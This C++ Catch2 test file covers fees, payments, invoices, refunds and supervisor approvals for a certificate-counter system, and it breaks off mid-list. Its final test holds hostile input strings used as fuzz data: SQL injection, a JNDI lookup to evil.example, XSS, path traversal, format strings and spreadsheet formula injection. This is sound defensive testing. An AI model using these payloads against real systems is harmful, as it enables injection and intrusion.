#include <catch2/catch.hpp>

#include <QJsonDocument>
#include <QJsonObject>

#include <pqxx/result>
#include <pqxx/transaction>

#include "backend/approvals/approvals.h"
#include "backend/auth/authenticator.h"
#include "backend/fees/fees.h"
#include "backend/fees/invoices.h"
#include "backend/identifiers/taxpayerid.h"
#include "db/connection.h"
#include "tests/support/testenv.h"

using namespace countersign;
using Catch::Matchers::Contains;

namespace {

const Date kToday = Date::today();

struct FeeFixture {
    test::TestDatabase database;
    std::unique_ptr<pqxx::connection> conn = database.connect();
    /// What the counter itself connects as: logins and approvals are checked for the acting counter.
    std::unique_ptr<pqxx::connection> counter = database.connectAsCounter();
    long long op = database.addStaff("op.li", "operator-pass");
    long long sup = database.addStaff("sup.wang", "supervisor-pass", "supervisor");
    /// The operator's staff session at counter 01: the person the database records the fee and refunds of.
    const Secret session{test::plantSession(database, op)};
    int transactions = 0;

    long long makeTransaction(const std::string& kind = "REPLACE") {
        pqxx::work tx{*conn};
        const std::string number = "TJ01-T" + std::to_string(++transactions);
        const long long id =
            tx.exec_params1(
                  "INSERT INTO transactions (number, kind, operator_staff_id, counter_id, centre_id) "
                  "VALUES ($1, $2, $3, $4, $5) RETURNING id",
                  number, kind, op, database.counterId(), database.centreId())[0]
                .as<long long>();
        // Its papers checked: the fee step comes next.
        tx.exec_params0("UPDATE transactions SET state = 'papers_checked' WHERE id = $1", id);
        tx.commit();
        return id;
    }

    fees::FeeQuote quote(const std::string& schedule, const std::string& operation,
                         const fees::FeeConditions& conditions = {}) {
        pqxx::read_transaction tx{*conn};
        return fees::quote(tx, database.centreId(), schedule, operation, conditions, kToday);
    }

    /// The operator's planted session as the client holds it: asking for an approval in it keeps it open (a
    /// second login of op.li would replace it, and the fee step recorded with it would be refused).
    auth::SessionToken operatorToken() const { return std::make_shared<const Secret>(session.view()); }

    /// `user`'s staff session at counter 01 (a login replaces their session before).
    auth::SessionToken sessionOf(const std::string& user, const std::string& password) {
        return auth::logIn(*counter, auth::LoginPurpose::Login, user, Secret(password)).session;
    }

    /// The supervisor approves at counter 01: their password, then the approval from that session. A waiver
    /// is approved for the Tianjin REPLACE waiver line, a refund for all that is left.
    long long approve(approvals::ApprovalKind kind, long long transactionId, const std::string& reason) {
        const auto approver =
            approvals::verifySupervisor(*counter, operatorToken(), {"sup.wang", Secret("supervisor-pass")});
        pqxx::work tx{*counter};
        approvals::ApprovalRequest request;
        request.kind = kind;
        request.requestedBy = op;
        request.counterId = database.counterId();
        request.transactionId = transactionId;
        request.reason = reason;
        if (kind == approvals::ApprovalKind::FeeWaiver) {
            fees::FeeConditions waiver;
            waiver.damageWaiver = true;
            request.approves =
                fees::waiverApprovalText(tx, database.centreId(), "tianjin-2018", "REPLACE", waiver, kToday);
        }
        const long long id = approvals::recordApproval(tx, request, approver);
        tx.commit();
        return id;
    }

    void record(long long transactionId, const fees::FeeQuote& q,
                const std::vector<fees::PaymentInput>& payments,
                const std::optional<fees::InvoiceInput>& invoice = std::nullopt) {
        pqxx::work tx{*counter};
        fees::recordFee(tx, session, transactionId, q, payments, invoice);
        tx.commit();
    }

    long long count(const std::string& sql, long long param) {
        pqxx::read_transaction tx{*conn};
        return tx.exec_params1(sql, param)[0].as<long long>();
    }

    long long auditCount(const std::string& event) {
        pqxx::read_transaction tx{*conn};
        return tx.exec_params1("SELECT count(*) FROM audit_log WHERE event = $1", event)[0].as<long long>();
    }

    std::string lastAuditDetail(const std::string& event) {
        pqxx::read_transaction tx{*conn};
        return tx
            .exec_params1("SELECT detail::text FROM audit_log WHERE event = $1 ORDER BY id DESC LIMIT 1",
                          event)[0]
            .as<std::string>();
    }
};

fees::InvoiceInput goodInvoice() {
    fees::InvoiceInput in;
    in.buyerKind = "enterprise";
    in.buyerName = "天津示例科技有限公司";
    in.buyerTaxpayerId = "91350100M000100Y43";
    in.addressPhone = "天津市和平区示例路1号 022-12345678";
    in.bankAccount = "中国银行天津分行 1234567890";
    in.deliveryEmail = "finance@example.com";
    return in;
}

QJsonObject parseObject(const std::string& text) {
    return QJsonDocument::fromJson(QByteArray::fromStdString(text)).object();
}

bool anyContains(const std::vector<Phrase>& problems, const std::string& part) {
    for (const auto& p : problems)
        if (p.english().find(part) != std::string::npos)
            return true;
    return false;
}

} // namespace

TEST_CASE(
    "fees: the Tianjin replacement is one 26.00 media fee line and the damage waiver a second -26.00 line",
    "[fees][db]") {
    FeeFixture f;
    const auto plain = f.quote("tianjin-2018", "REPLACE");
    CHECK(plain.scheduleCode == "tianjin-2018");
    REQUIRE(plain.lines.size() == 1);
    CHECK(plain.lines[0].description == "USB-KEY media fee");
    CHECK(plain.lines[0].amountFen == 2600);
    CHECK(plain.totalFen() == 2600);

    const long long t = f.makeTransaction("REPLACE");
    fees::FeeConditions waived;
    waived.damageWaiver = true;
    waived.waiverAttestedBy = f.op;
    SECTION("a waiver without a supervisor's approval is refused") {
        CHECK_THROWS_WITH(f.quote("tianjin-2018", "REPLACE", waived), Contains("supervisor's approval"));
    }
    SECTION("an approved waiver makes the total zero, and no payment is taken") {
        waived.waiverApprovalId = f.approve(approvals::ApprovalKind::FeeWaiver, t, "key dead, case intact");
        const auto q = f.quote("tianjin-2018", "REPLACE", waived);
        REQUIRE(q.lines.size() == 2);
        CHECK(q.lines[0].amountFen == 2600);
        CHECK(q.lines[1].amountFen == -2600);
        CHECK(q.lines[1].waiverReason == "key failed without human damage, exterior intact");
        CHECK(q.lines[1].attestedBy == f.op);
        CHECK(q.lines[1].approvalId == waived.waiverApprovalId);
        CHECK(q.totalFen() == 0);
        CHECK(fees::checkPayments(q, {}).empty());
        CHECK_FALSE(fees::checkPayments(q, {{fees::PaymentMethod::Cash, 2600, ""}}).empty());

        f.record(t, q, {});
        pqxx::read_transaction tx{*f.conn};
        const auto lines = tx.exec_params("SELECT amount_fen, waiver_reason, attested_by, approval_id "
                                          "FROM fee_lines WHERE transaction_id = $1 ORDER BY id",
                                          t);
        REQUIRE(lines.size() == 2);
        CHECK(lines[0][0].as<long long>() == 2600);
        CHECK(lines[0][1].is_null());
        CHECK(lines[1][0].as<long long>() == -2600);
        CHECK(lines[1][1].as<std::string>() == "key failed without human damage, exterior intact");
        CHECK(lines[1][2].as<long long>() == f.op);
        CHECK(lines[1][3].as<long long>() == *waived.waiverApprovalId);
        const auto detail =
            parseObject(tx.exec_params1("SELECT detail::text FROM audit_log "
                                        "WHERE event = 'fee.recorded' AND subject = 'TJ01-T1'")[0]
                            .as<std::string>());
        CHECK(detail.value(QStringLiteral("total_fen")).toInt(-1) == 0);
        CHECK(detail.value(QStringLiteral("schedule")).toString() == QStringLiteral("tianjin-2018"));
    }
    SECTION("the Ningbo preset has no damage waiver") {
        waived.waiverApprovalId = f.approve(approvals::ApprovalKind::FeeWaiver, t, "key dead, case intact");
        CHECK_THROWS_WITH(f.quote("ningbo", "REPLACE", waived), Contains("no damage waiver"));
    }
}

TEST_CASE(
    "fees: Ningbo charges nothing for an enterprise's first certificate and 180.00 for each further one",
    "[fees][db]") {
    FeeFixture f;
    fees::FeeConditions first;
    first.firstCertificate = true;
    const auto free = f.quote("ningbo", "NEW", first);
    REQUIRE(free.lines.size() == 1);
    CHECK(free.lines[0].amountFen == 0);
    CHECK(free.lines[0].description == "first certificate subsidised");
    CHECK(free.totalFen() == 0);

    const auto further = f.quote("ningbo", "NEW");
    REQUIRE(further.lines.size() == 1);
    CHECK(further.lines[0].amountFen == 18000);
    CHECK(further.totalFen() == 18000);

    CHECK(f.quote("ningbo", "RENEW").totalFen() == 15000);
    CHECK(f.quote("ningbo", "REPLACE").totalFen() == 10000);
    CHECK(f.quote("ningbo", "UPGRADE").totalFen() == 0);
    CHECK(f.quote("ningbo", "UNLOCK").totalFen() == 0);
    CHECK(f.quote("tianjin-2018", "NEW").totalFen() == 0);
    CHECK(f.quote("tianjin-2018", "RENEW").totalFen() == 0);
}

TEST_CASE("fees: a schedule is chosen by code, else the centre's own, and two in force at once are refused",
          "[fees][db]") {
    FeeFixture f;
    CHECK_THROWS_WITH(f.quote("", "NEW"),
                      Contains("tianjin-2018") && Contains("ningbo") && Contains("[fees] schedule"));
    CHECK_THROWS_WITH(f.quote("no-such", "NEW"), Contains("no-such") && Contains("does not exist"));
    CHECK_THROWS_WITH(f.quote("ningbo", "FROBNICATE"), Contains("unknown operation"));
    {
        pqxx::read_transaction tx{*f.conn};
        CHECK_THROWS_WITH(
            fees::quote(tx, f.database.centreId(), "tianjin-2018", "NEW", {}, Date{2018, 9, 17}),
            Contains("not in force on 2018-09-17"));
    }
    {
        pqxx::work tx{*f.conn};
        tx.exec_params0("INSERT INTO fee_schedules (code, name, centre_id, valid_from) "
                        "VALUES ('tj01-own', 'TJ01 own', $1, DATE '2020-01-01')",
                        f.database.centreId());
        tx.exec0("INSERT INTO fee_rules (schedule_id, operation, condition, amount_fen, description) "
                 "SELECT id, 'RENEW', 'default', 5000, 'renewal' FROM fee_schedules WHERE code = 'tj01-own'");
        tx.commit();
    }
    const auto own = f.quote("", "RENEW");
    CHECK(own.scheduleCode == "tj01-own");
    CHECK(own.totalFen() == 5000);
    // An operation without a rule still has one line, of zero.
    const auto unlock = f.quote("", "UNLOCK");
    REQUIRE(unlock.lines.size() == 1);
    CHECK(unlock.lines[0].amountFen == 0);
    CHECK_FALSE(unlock.lines[0].ruleId);
    CHECK(unlock.lines[0].description == "no fee for UNLOCK");
}

TEST_CASE(
    "fees: payments that don't add up, without a reference or not above zero are refused with the reason",
    "[fees][db]") {
    FeeFixture f;
    const auto q = f.quote("tianjin-2018", "REPLACE");
    using fees::PaymentMethod;
    CHECK(fees::checkPayments(q, {{PaymentMethod::Cash, 2600, ""}}).empty());
    CHECK(fees::checkPayments(q, {{PaymentMethod::Cash, 1000, ""}, {PaymentMethod::Alipay, 1600, "2024A1"}})
              .empty());

    const auto shortBy = fees::checkPayments(q, {{PaymentMethod::Cash, 2000, ""}});
    REQUIRE(shortBy.size() == 1);
    CHECK_THAT(shortBy[0].english(), Contains("20.00") && Contains("26.00") && Contains("6.00 short"));
    CHECK(anyContains(fees::checkPayments(q, {{PaymentMethod::Cash, 3000, ""}}), "4.00 too much"));
    CHECK(anyContains(fees::checkPayments(q, {}), "no payment"));
    CHECK(anyContains(fees::checkPayments(q, {{PaymentMethod::WeChatPay, 2600, "  "}}), "reference number"));
    CHECK(anyContains(fees::checkPayments(q, {{PaymentMethod::BankCard, 2600, ""}}), "non-cash"));
    CHECK(anyContains(
        fees::checkPayments(q, {{PaymentMethod::Cash, 2700, ""}, {PaymentMethod::Cash, -100, ""}}),
        "more than 0.00"));
    CHECK(anyContains(fees::checkPayments(q, {{PaymentMethod::Cash, 2600, ""},
                                              {PaymentMethod::Cash, 0x7fffffffffffffffLL, ""}}),
                      "more than can be counted"));

    // recordFee refuses before writing anything.
    const long long t = f.makeTransaction();
    CHECK_THROWS_AS(f.record(t, q, {{PaymentMethod::Cash, 2000, ""}}), fees::FeeError);
    CHECK_THROWS_WITH(f.record(t, q, {{PaymentMethod::WeChatPay, 2600, ""}}), Contains("reference"));
    CHECK(f.count("SELECT count(*) FROM fee_lines WHERE transaction_id = $1", t) == 0);
    CHECK(f.count("SELECT count(*) FROM payments WHERE transaction_id = $1", t) == 0);

    const auto parsed = fees::parsePaymentsJson(
        R"([{"method": "wechat_pay", "amount": "26.00", "reference": "4200001"}, {"method": "cash", "amount_fen": 5}])");
    REQUIRE(parsed.size() == 2);
    CHECK(parsed[0].method == PaymentMethod::WeChatPay);
    CHECK(parsed[0].amountFen == 2600);
    CHECK(parsed[0].reference == "4200001");
    CHECK(parsed[1].amountFen == 5);
    CHECK_THROWS_WITH(fees::parsePaymentsJson(R"([{"method": "cash", "amount": 26.0}])"),
                      Contains("never a number"));
    CHECK_THROWS_WITH(fees::parsePaymentsJson(R"([{"method": "cash", "amount": "26.001"}])"),
                      Contains("not an amount"));
    CHECK_THROWS_WITH(fees::parsePaymentsJson(R"([{"method": "bitcoin", "amount": "1"}])"),
                      Contains("unknown method"));
    CHECK_THROWS_AS(fees::parsePaymentsJson("{"), fees::FeeError);
    CHECK(fees::methodCode(PaymentMethod::BankCard) == std::string("bank_card"));
    CHECK(fees::parseMethod("alipay") == PaymentMethod::Alipay);
    CHECK_FALSE(fees::parseMethod("ALIPAY"));
}

TEST_CASE("fees: recording a fee writes its lines, payments and invoice request and audits fee.recorded",
          "[fees][db]") {
    FeeFixture f;
    const long long t = f.makeTransaction();
    auto invoice = goodInvoice();
    invoice.buyerTaxpayerId = " 91350100m000100y43 ";
    f.record(t, f.quote("tianjin-2018", "REPLACE"), {{fees::PaymentMethod::WeChatPay, 2600, "420000123"}},
             invoice);
    pqxx::read_transaction tx{*f.conn};
    const auto p =
        tx.exec_params1("SELECT method, amount_fen, reference, received_by, centre_id FROM payments "
                        "WHERE transaction_id = $1",
                        t);
    CHECK(p[0].as<std::string>() == "wechat_pay");
    CHECK(p[1].as<long long>() == 2600);
    CHECK(p[2].as<std::string>() == "420000123");
    CHECK(p[3].as<long long>() == f.op);
    const auto ir =
        tx.exec_params1("SELECT status, buyer_taxpayer_id, amount_fen, buyer_name, delivery_mobile "
                        "FROM invoice_requests WHERE transaction_id = $1",
                        t);
    CHECK(ir[0].as<std::string>() == "pending");
    CHECK(ir[1].as<std::string>() == "91350100M000100Y43"); // normalised
    CHECK(ir[2].as<long long>() == 2600);
    CHECK(ir[3].as<std::string>() == invoice.buyerName);
    CHECK(ir[4].is_null());
    const auto detail = parseObject(
        tx.exec1("SELECT detail::text FROM audit_log WHERE event = 'fee.recorded'")[0].as<std::string>());
    CHECK(detail.value(QStringLiteral("total_fen")).toInt() == 2600);
    tx.commit();

    CHECK_THROWS_WITH(
        f.record(t, f.quote("tianjin-2018", "REPLACE"), {{fees::PaymentMethod::Cash, 2600, ""}}),
        Contains("already recorded"));
    // Nothing to pay, nothing to invoice.
    const long long free = f.makeTransaction("UNLOCK");
    CHECK_THROWS_WITH(f.record(free, f.quote("tianjin-2018", "UNLOCK"), {}, goodInvoice()),
                      Contains("no invoice"));
}

TEST_CASE("fees: invoice data: an enterprise needs a valid taxpayer ID and a delivery address", "[fees]") {
    CHECK(fees::checkInvoice(goodInvoice(), kToday).empty());

    auto noId = goodInvoice();
    noId.buyerTaxpayerId.clear();
    const auto missing = fees::checkInvoice(noId, kToday);
    REQUIRE(missing.size() == 1);
    CHECK_THAT(missing[0].english(), Contains("enterprise buyer needs its taxpayer ID"));

    auto badId = goodInvoice();
    badId.buyerTaxpayerId = "91350100M000100Y44";
    const auto bad = fees::checkInvoice(badId, kToday);
    REQUIRE(bad.size() == 1);
    CHECK_THAT(bad[0].english(),
               Contains("buyer taxpayer ID") && Contains("check character") && Contains("'3'"));

    auto shortId = goodInvoice();
    shortId.buyerTaxpayerId = "1234";
    CHECK(anyContains(fees::checkInvoice(shortId, kToday), "15, 18 or 20"));

    auto person = goodInvoice();
    person.buyerKind = "individual";
    person.buyerName = "张三";
    person.buyerTaxpayerId.clear();
    person.deliveryEmail.clear();
    person.deliveryMobile = "13800138000";
    CHECK(fees::checkInvoice(person, kToday).empty());

    auto nowhere = goodInvoice();
    nowhere.deliveryEmail.clear();
    CHECK(anyContains(fees::checkInvoice(nowhere, kToday), "e-mail address or a mobile number"));
    auto badMail = goodInvoice();
    badMail.deliveryEmail = "finance at example";
    CHECK(anyContains(fees::checkInvoice(badMail, kToday), "not an e-mail address"));
    auto badKind = goodInvoice();
    badKind.buyerKind = "company";
    CHECK(anyContains(fees::checkInvoice(badKind, kToday), "enterprise or individual"));
    auto noName = goodInvoice();
    noName.buyerName = "\xE3\x80\x80 ";
    CHECK(anyContains(fees::checkInvoice(noName, kToday), "buyer name (invoice title) is required"));
    auto formula = goodInvoice();
    formula.buyerName = "=HYPERLINK(\"http://evil\")";
    CHECK(anyContains(fees::checkInvoice(formula, kToday), "formula"));

    const auto parsed = fees::parseInvoiceJson(
        R"({"buyer_kind": "enterprise", "buyer_name": "示例", "buyer_taxpayer_id": "91350100M000100Y43",
            "delivery_email": "a@b.cn", "address_phone": null})");
    CHECK(parsed.buyerName == "示例");
    CHECK(parsed.deliveryEmail == "a@b.cn");
    CHECK(parsed.addressPhone.empty());
    CHECK_THROWS_WITH(fees::parseInvoiceJson(R"({"buyer_nam": "x"})"), Contains("unknown key"));
    CHECK_THROWS_WITH(fees::parseInvoiceJson(R"({"buyer_name": 5})"), Contains("must be a string"));
    CHECK_THROWS_AS(fees::parseInvoiceJson("{\"buyer_name\": \"\xFF\xFE\"}"), fees::FeeError);
    CHECK_THROWS_AS(fees::parseInvoiceJson("[]"), fees::FeeError);
}

TEST_CASE("fees: a refund needs a supervisor's approval, pays back each payment by its method and never more",
          "[fees][db]") {
    FeeFixture f;
    const long long t = f.makeTransaction();
    f.record(t, f.quote("tianjin-2018", "REPLACE"),
             {{fees::PaymentMethod::Cash, 1000, ""}, {fees::PaymentMethod::Alipay, 1600, "2088-1"}},
             goodInvoice());

    {
        pqxx::work tx{*f.counter};
        CHECK_THROWS_WITH(
            fees::refundTransaction(tx, f.session, t, "customer changed mind", std::nullopt, false),
            Contains("needs a supervisor's approval"));
    }
    CHECK(f.count("SELECT count(*) FROM refunds r JOIN payments p ON p.id = r.payment_id "
                  "WHERE p.transaction_id = $1",
                  t) == 0);
    {
        // The database refuses it too.
        pqxx::work tx{*f.conn};
        CHECK_THROWS_AS(
            tx.exec_params0("INSERT INTO refunds (payment_id, centre_id, amount_fen, reason, refunded_by) "
                            "SELECT id, centre_id, 100, 'x', $2 FROM payments WHERE transaction_id = $1 "
                            "LIMIT 1",
                            t, f.op),
            pqxx::check_violation);
    }
    // An approval for another kind or transaction doesn't do.
    const long long waiver = f.approve(approvals::ApprovalKind::FeeWaiver, t, "wrong kind");
    {
        pqxx::work tx{*f.counter};
        CHECK_THROWS_WITH(fees::refundTransaction(tx, f.session, t, "r", waiver, false),
                          Contains("not a refund approval"));
    }
    // Part of the cash was refunded already (by hand, with its own approval): only the rest goes back.
    const long long first = f.approve(approvals::ApprovalKind::Refund, t, "partial");
    {
        pqxx::work tx{*f.conn};
        tx.exec_params0(
            "INSERT INTO refunds (payment_id, centre_id, amount_fen, reason, approval_id, refunded_by) "
            "SELECT id, centre_id, 400, 'partial', $2, $3 FROM payments "
            "WHERE transaction_id = $1 AND method = 'cash'",
            t, first, f.op);
        tx.commit();
    }
    const long long approval = f.approve(approvals::ApprovalKind::Refund, t, "key could not be issued");
    {
        pqxx::work tx{*f.counter};
        const auto refunds =
            fees::refundTransaction(tx, f.session, t, "key could not be issued", approval, false);
        tx.commit();
        REQUIRE(refunds.size() == 2);
        CHECK(refunds[0].method == fees::PaymentMethod::Cash);
        CHECK(refunds[0].amountFen == 600);
        CHECK(refunds[1].method == fees::PaymentMethod::Alipay);
        CHECK(refunds[1].amountFen == 1600);
    }
    CHECK(f.count("SELECT sum(r.amount_fen) FROM refunds r JOIN payments p ON p.id = r.payment_id "
                  "WHERE p.transaction_id = $1",
                  t) == 2600);
    {
        pqxx::read_transaction tx{*f.conn};
        CHECK(tx.exec_params1("SELECT status FROM invoice_requests WHERE transaction_id = $1", t)[0]
                  .as<std::string>() == "cancelled");
    }
    const auto detail = parseObject(f.lastAuditDetail("fee.refunded"));
    CHECK(detail.value(QStringLiteral("total_fen")).toInt() == 2200);
    CHECK(detail.value(QStringLiteral("approval_id")).toInt() == approval);

    // Nothing is left: a second refund pays nothing, and the database refuses any fen more.
    {
        pqxx::work tx{*f.counter};
        CHECK(fees::refundTransaction(tx, f.session, t, "again", approval, false).empty());
        tx.commit();
    }
    {
        pqxx::work tx{*f.conn};
        CHECK_THROWS_WITH(tx.exec_params0("INSERT INTO refunds (payment_id, centre_id, amount_fen, reason, "
                                          "approval_id, refunded_by) SELECT id, centre_id, 1, 'more', $2, $3 "
                                          "FROM payments WHERE transaction_id = $1 AND method = 'alipay'",
                                          t, approval, f.op),
                          Contains("exceeds payment"));
    }
}

TEST_CASE("fees: a refund made by crash recovery needs no approval and waits for a supervisor's review",
          "[fees][db]") {
    FeeFixture f;
    const long long t = f.makeTransaction();
    f.record(t, f.quote("ningbo", "REPLACE"), {{fees::PaymentMethod::BankCard, 10000, "POS-77"}});
    // Done as a counter workstation's database role, so the grants are what a counter has.
    auto counter = f.database.connectAsCounter();
    {
        pqxx::work tx{*counter};
        const auto refunds = fees::refundTransaction(tx, f.session, t, "recovery: key could not be written",
                                                     std::nullopt, true);
        tx.commit();
        REQUIRE(refunds.size() == 1);
        CHECK(refunds[0].amountFen == 10000);
        CHECK(refunds[0].method == fees::PaymentMethod::BankCard);
    }
    long long refundId = 0;
    {
        pqxx::read_transaction tx{*counter};
        const auto r =
            tx.exec1("SELECT id, by_recovery, approval_id IS NULL, reviewed_by IS NULL FROM refunds");
        refundId = r[0].as<long long>();
        CHECK(r[1].as<bool>());
        CHECK(r[2].as<bool>());
        CHECK(r[3].as<bool>());
    }
    CHECK(parseObject(f.lastAuditDetail("fee.refunded")).value(QStringLiteral("review_required")).toBool());

    // A counter's login can't mark it reviewed by hand, in anyone's name (0017); the supervisor reviews it
    // with her own session at this counter, and the database records her.
    for (const long long who : {f.op, f.sup}) {
        pqxx::work tx{*counter};
        CHECK_THROWS_AS(
            tx.exec_params0("UPDATE refunds SET reviewed_by = $2, reviewed_at = now() WHERE id = $1",
                            refundId, who),
            pqxx::insufficient_privilege);
    }
    {
        pqxx::work tx{*counter};
        CHECK_THROWS_AS(tx.exec_params0("UPDATE refunds SET amount_fen = 1 WHERE id = $1", refundId),
                        pqxx::insufficient_privilege);
    }
    const auto supervisor =
        auth::logIn(*counter, auth::LoginPurpose::Login, "sup.wang", Secret(std::string("supervisor-pass")));
    REQUIRE(supervisor.status == auth::LoginStatus::Ok);
    {
        pqxx::work tx{*counter};
        CHECK(fees::reviewRefunds(tx, supervisor.session->c_str()) == 1);
        tx.commit();
    }
    CHECK(f.count("SELECT count(*) FROM refunds WHERE id = $1 AND reviewed_by = " + std::to_string(f.sup),
                  refundId) == 1);
}

TEST_CASE("fees: a supervisor's approval is recorded with both people and audited", "[fees][db][approvals]") {
    FeeFixture f;
    const long long t = f.makeTransaction();
    const auto who =
        approvals::verifySupervisor(*f.counter, f.operatorToken(), {"sup.wang", Secret("supervisor-pass")});
    CHECK(who.staff.id == f.sup);
    CHECK(who.staff.role == auth::Role::Supervisor);
    pqxx::work tx{*f.counter};
    approvals::ApprovalRequest request;
    request.kind = approvals::ApprovalKind::Refund;
    request.requestedBy = f.op;
    request.counterId = f.database.counterId();
    request.transactionId = t;
    request.reason = "customer paid twice";
    const long long id = approvals::recordApproval(tx, request, who);
    tx.commit();
    CHECK(f.count("SELECT count(*) FROM approvals WHERE id = $1 AND kind = 'refund'", id) == 1);
    const auto detail = parseObject(f.lastAuditDetail("approval.granted"));
    CHECK(detail.value(QStringLiteral("requested_by")).toInt() == f.op);
    CHECK(detail.value(QStringLiteral("approved_by")).toInt() == f.sup);
    CHECK(detail.value(QStringLiteral("transaction")).toString() == QStringLiteral("TJ01-T1"));
    CHECK(approvals::kindCode(approvals::ApprovalKind::HandEnteredLetter) ==
          std::string("hand_entered_letter"));
}

TEST_CASE(
    "fees: approval by a non-supervisor, by the requester or with a wrong password is refused and audited",
    "[fees][db][approvals]") {
    FeeFixture f;
    const long long other = f.database.addStaff("op.zhao", "other-pass");
    // Who asks is the person of a session: op.li, or sup.wang logged in at the counter.
    const auto op = f.sessionOf("op.li", "operator-pass");
    const auto sup = f.sessionOf("sup.wang", "supervisor-pass");
    const auto verify = [&](const std::string& user, const std::string& password,
                            const auth::SessionToken& requester) {
        return approvals::verifySupervisor(*f.counter, requester, {user, Secret(password)});
    };
    const auto reasons = [&] {
        pqxx::read_transaction tx{*f.conn};
        std::vector<std::string> out;
        for (const auto& row : tx.exec("SELECT detail->>'reason' FROM audit_log "
                                       "WHERE event IN ('approval.refused', 'approval.failed') ORDER BY seq"))
            out.push_back(row[0].as<std::string>());
        return out;
    };
    const auto failures = [&](const std::string& user) {
        pqxx::read_transaction tx{*f.conn};
        return tx.exec_params1("SELECT failed_logins FROM staff WHERE username = $1", user)[0].as<int>();
    };

    CHECK_THROWS_WITH(verify("op.zhao", "other-pass", op), Contains("not a supervisor"));
    CHECK_THROWS_WITH(verify("sup.wang", "supervisor-pass", sup), Contains("second person"));
    CHECK_THROWS_WITH(verify("sup.wang", "wrong", op), Contains("wrong user name or password"));
    CHECK_THROWS_WITH(verify("nobody", "x", op), Contains("wrong user name or password"));
    CHECK(reasons() ==
          std::vector<std::string>{"not_supervisor", "same_person", "wrong_password", "unknown_user"});
    CHECK(failures("sup.wang") == 1);
    (void)other;

    // The database refuses an approval from an operator's session, from a logged-in supervisor's session (not
    // one their password opened for this approval), a self-approval, and a spent approval, even if the code
    // were bypassed.
    {
        // Another supervisor, so sup.wang's count of wrong passwords below is untouched.
        const long long supLi = f.database.addStaff("sup.li", "supervisor-pass", "supervisor");
        const auto grant = [&](const auth::SessionToken& session, long long requestedBy) {
            pqxx::work tx{*f.counter};
            approvals::ApprovalRequest request;
            request.kind = approvals::ApprovalKind::DayClose;
            request.requestedBy = requestedBy;
            request.counterId = f.database.counterId();
            request.reason = "close";
            approvals::recordApproval(tx, request, {{}, session});
            tx.commit();
        };
        const auto operatorLogin =
            auth::logIn(*f.counter, auth::LoginPurpose::Login, "op.zhao", Secret("other-pass"));
        CHECK_THROWS_WITH(grant(operatorLogin.session, f.op), Contains("not with a logged-in session"));
        const auto supervisorLogin =
            auth::logIn(*f.counter, auth::LoginPurpose::Login, "sup.li", Secret("supervisor-pass"));
        CHECK_THROWS_WITH(grant(supervisorLogin.session, f.op), Contains("not with a logged-in session"));
        const auto operatorApproval =
            auth::logIn(*f.counter, auth::LoginPurpose::Approval, "op.zhao", Secret("other-pass"));
        CHECK_THROWS_WITH(grant(operatorApproval.session, f.op), Contains("this needs supervisor"));
        const auto approval =
            auth::logIn(*f.counter, auth::LoginPurpose::Approval, "sup.li", Secret("supervisor-pass"));
        CHECK_THROWS_WITH(grant(approval.session, supLi), Contains("second person"));
        // Who asked is recorded only after the supervisor's password was checked against their session.
        CHECK_THROWS_WITH(grant(approval.session, f.op), Contains("checked against who asks first"));
        {
            pqxx::work tx{*f.counter};
            tx.exec_params1("SELECT countersign.approval_verify($1, $2)", approval.session->c_str(),
                            op->c_str());
            tx.commit();
        }
        grant(approval.session, f.op);
        CHECK_THROWS_WITH(grant(approval.session, f.op), Contains("already used"));
        // An approval holds for 5 minutes (moved into the past here instead of waiting).
        const auto late =
            auth::logIn(*f.counter, auth::LoginPurpose::Approval, "sup.li", Secret("supervisor-pass"));
        {
            pqxx::work tx{*f.conn};
            tx.exec0(
                "UPDATE staff_sessions SET expires_at = now() - interval '1 second' WHERE ended_at IS NULL "
                "AND purpose = 'approval'");
            tx.commit();
        }
        CHECK_THROWS_WITH(grant(late.session, f.op), Contains("has expired"));
    }

    // Wrong approval passwords count towards the same lockout as wrong logins.
    const auto login = [&](const std::string& password) {
        return auth::logIn(*f.counter, auth::LoginPurpose::Login, "sup.wang", Secret(password));
    };
    CHECK(login("wrong-login").status == auth::LoginStatus::WrongCredentials);
    CHECK(failures("sup.wang") == 2);
    CHECK_THROWS(verify("sup.wang", "wrong", op));
    CHECK_THROWS(verify("sup.wang", "wrong", op));
    CHECK_THROWS_WITH(verify("sup.wang", "wrong", op), Contains("now locked"));
    CHECK(f.auditCount("staff.locked") == 1);
    CHECK_THROWS_WITH(verify("sup.wang", "supervisor-pass", op), Contains("locked until"));
    CHECK(login("supervisor-pass").status == auth::LoginStatus::Locked);
    CHECK(reasons().back() == "locked");
}

TEST_CASE("fees: hostile text in every invoice field is refused with a reason or stored byte for byte",
          "[fees][db]") {
    FeeFixture f;
    std::vector<std::string> hostile = {
        "'; DROP TABLE invoice_requests; --",
        "Robert'); DELETE FROM staff WHERE ('1'='1",
        "\" OR 1=1 --",
        "1; SELECT pg_sleep(10)",
        "$1",
        "$$; DROP SCHEMA countersign CASCADE; $$",
        "E'\\x00'",
        "\\",
        "\\\\\\",
        "%s%s%s%n",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "../../../../etc/passwd",
        "NULL",
        "null",
        "undefined",
        "true",
        "0",
        "-1",
        "1e309",
        "NaN",
        "=1+1",
        "+1",
        "-2",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        "a,b,c",
        "\"quoted\"",
        "he said \"hi\", then left",
        "天津示例科技有限公司",
        "株式会社テスト",
        "Ünïcödé Äß",
        "😀🎉 emoji",
        "👨‍👩‍👧 family",
        "zero\xE2\x80\x8Bwidth",
        "\xEF\xBB\xBF"
        "bom",
        "\xE2\x80\xAE"
        "reversed",
        "\xE2\x81\xA6"
        "isolate",
        "line\xE2\x80\xA8sep",
        "para\xE2\x80\xA9sep",
        "C1\xC2\x85"
        "nel",
        "C1\xC2\x9B"
        "csi",
        "\xFF",
        "\xFE\xFF",
        "\xC0\xAF",
        "\xE0\x80\xAF",
        "\xED\xA0\x80",
        "\xF4\x90\x80\x80",
        "\xE4\xB8",
        "abc\x80",
        "\xC3",
        "\xF0\x9F\x98",
        std::string(10240, 'A'),
        std::string(201, 'x'),
        std::string(200, 'y'),
        std::string(3000, '\''),
        [] {
            std::string s;
            for (int i = 0; i < 100; ++i)
                s += "天";
            return s;
        }(),
        " leading and trailing ",
        "\t",
        "   ",
        "",
        "tab\there",
        "a\x7F"
        "b",
        "%00",
        "%27%20OR%201%3D1",
        "&lt;b&gt;",
        "\\u0000",
        "\\n",
        "mail@example.com",
        "13800138000",
        "+8613800138000",
        "91350100M000100Y43",
        "91350100M000100Y44",
